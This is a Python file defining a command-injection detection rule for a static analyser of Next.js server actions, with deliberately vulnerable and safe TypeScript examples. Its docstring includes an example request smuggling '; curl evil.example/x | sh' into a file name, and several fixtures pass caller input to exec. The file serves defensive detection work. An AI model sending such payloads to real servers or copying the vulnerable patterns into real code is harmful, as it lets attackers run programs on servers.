"""The caller writes a part of a command that the server runs.

## What it does
Follows the caller's words into command lines and names of programs: `exec`, `execSync`, `spawn`, `execa`, commands sent
over SSH.

## Why this is bad
A shell reads `;`, `|` and `$()`. Whoever writes a part of the line runs programs of their own on the server.

```
curl -X POST https://example.com/convert -H 'Next-Action: 60c2…' --data '["a.png; curl evil.example/x | sh"]'
```

## Use instead
Call the program without a shell, with its arguments in a list: `execFile('convert', [name, 'out.webp'])`. Where an
argument could be taken for an option, put `--` before it.

## How it is decided
The first argument of the call holds an input that the path compares with nothing the code knows. Arguments in a list
are no part of a command line, unless a shell is the program (`sh -c`) or is asked for (`shell: true`).

## When it is intended
It hardly is: `// preship: ignore command-injection -- reason`.

## What Next.js does give
Nothing here: the arguments of an action are whatever the request says, and TypeScript's types are gone by then.

## References
- CWE-78: OS Command Injection, https://cwe.mitre.org/data/definitions/78.html
- Node.js, child_process, https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback
"""

from __future__ import annotations

from collections.abc import Iterator

from preship.analyzers.rule import (
    ActionFacts,
    Advice,
    Bad,
    Confidence,
    Finding,
    Good,
    Item,
    KnownMiss,
    Rule,
    Severity,
    actions,
    named,
    sinks,
)


def check(action: ActionFacts) -> Iterator[Finding]:
    """Report commands into which the caller writes."""
    for found in action.written(sinks.commands):
        yield RULE.finding(
            action,
            found.effect,
            message=f"{action.label} puts {named(found.named_by)} into a command (`{found.effect.what}`). "
            "Whoever sends the request runs programs of their own on the server.",
            remedy=Advice(
                "Call the program without a shell and pass the arguments as a list: `execFile(program, [argument])`.",
                calls=("execFile",),
            ),
            confidence=Confidence.MEDIUM if found.is_parsed else Confidence.HIGH,
        )


RULE = Rule(
    id="command-injection",
    title="a command from the caller",
    headline="whoever calls {action} can run commands on the server",
    severity=Severity.CRITICAL,
    cwe=78,
    item=Item.INPUT,
    check=check,
    examples=(
        Bad(
            "a file name in a command line",
            actions("""
                'use server'
                import { exec } from 'node:child_process'

                export async function convert(name: string) {
                  exec(`convert uploads/${name} out.webp`)  // <- finding
                }
            """),
        ),
        Bad(
            "promised, and put together with +",
            actions("""
                'use server'
                import { exec } from 'child_process'
                import { promisify } from 'util'
                const run = promisify(exec)

                export async function ping(data: FormData) {
                  const host = data.get('host')
                  const { stdout } = await run('ping -c 1 ' + host)  // <- finding
                  return stdout
                }
            """),
        ),
        Good(
            "arguments in a list",
            actions("""
                'use server'
                import { execFile } from 'node:child_process'

                export async function convert(name: string) {
                  execFile('convert', [name, 'out.webp'])
                }
            """),
        ),
        Good(
            "one of the commands that the code knows",
            actions("""
                'use server'
                import { execSync } from 'node:child_process'

                export async function report(kind: string) {
                  if (kind !== 'daily' && kind !== 'weekly') throw new Error('Unknown report')
                  execSync(`make report-${kind}`)
                }
            """),
        ),
        Bad(
            "a list of arguments that a shell reads all the same",
            actions("""
                'use server'
                import { spawn } from 'node:child_process'

                export async function convert(name: string) {
                  spawn('convert', [name, 'out.webp'], { shell: true })  // <- finding
                }
            """),
        ),
        KnownMiss(
            "an argument that the program takes for an option",
            actions("""
                'use server'
                import { execFile } from 'node:child_process'

                export async function fetchOrigin(repository: string) {
                  execFile('git', ['fetch', repository], () => {})
                }
            """),
        ),
    ),
)
